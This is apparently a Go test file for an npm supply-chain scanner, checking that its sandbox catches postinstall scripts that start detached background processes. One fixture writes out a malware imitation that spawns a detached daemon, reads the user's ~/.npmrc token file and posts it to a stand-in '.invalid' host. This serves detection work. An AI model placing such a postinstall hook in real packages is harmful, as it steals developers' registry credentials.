package scan_test

import (
	"strconv"
	"strings"
	"testing"

	"github.com/depbox/depbox/internal/verdict"
	"github.com/depbox/depbox/profile"
)

// TestDetachedDaemon runs, in the real sandbox, postinstalls that start a
// payload detached (its own session, so the step's process group is not
// its group) and exit at once, as Shai-Hulud 2.0 and @kodane/patch-manager
// did: the payload's theft, done after its lifecycle script ended, is seen
// and judged on the package; a daemon that never ends is killed and said
// so. The fixtures imitate malware; they run only in the sandbox and reach
// only *.invalid names.
func TestDetachedDaemon(t *testing.T) {
	dir := t.TempDir()
	daemon := `setTimeout(() => { const fs = require('fs'); let t = ''; try { t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); } catch {}
const r = require('http').request({ host: 'collect.daemon.invalid', method: 'POST', path: '/' }); r.on('error', () => {}); r.end(t); }, 300);`
	start := func(file string) string {
		return strconv.Quote(`node -e "require('child_process').spawn(process.execPath, ['` + file + `'], {detached: true, stdio: 'ignore'}).unref()"`)
	}
	writeBundle(t, dir, map[string]string{
		"package.json":                      `{"name":"fn","version":"1.0.0","dependencies":{"thief":"1.0.0","forever":"1.0.0"}}`,
		"index.js":                          "exports.handler = async () => ({ statusCode: 200 });\n",
		"node_modules/thief/package.json":   `{"name":"thief","version":"1.0.0","scripts":{"postinstall":` + start("daemon.js") + `}}`,
		"node_modules/thief/daemon.js":      daemon,
		"node_modules/thief/index.js":       "module.exports = 1;",
		"node_modules/forever/package.json": `{"name":"forever","version":"1.0.0","scripts":{"postinstall":` + start("loop.js") + `}}`,
		"node_modules/forever/loop.js":      "setInterval(() => {}, 1000);",
		"node_modules/forever/index.js":     "module.exports = 1;",
	})
	o := options(t, dir)
	p := run(t, o)
	got := findingsOn(p, "node_modules/thief")
	for _, rule := range []string{verdict.RuleCanaryExfiltration, verdict.RuleBaitFileRead} {
		if _, ok := got[rule][profile.PhaseInstall]; !ok {
			t.Errorf("thief: no %s in the install phase (findings %v)", rule, got)
		}
	}
	killed := false
	for _, pr := range p.Problems {
		if pr.Code == "runner-warning" && strings.Contains(pr.Message, "was still running") {
			killed = true
		}
	}
	if !killed {
		t.Errorf("no warning about the daemon that never ended: %+v", p.Problems)
	}
}
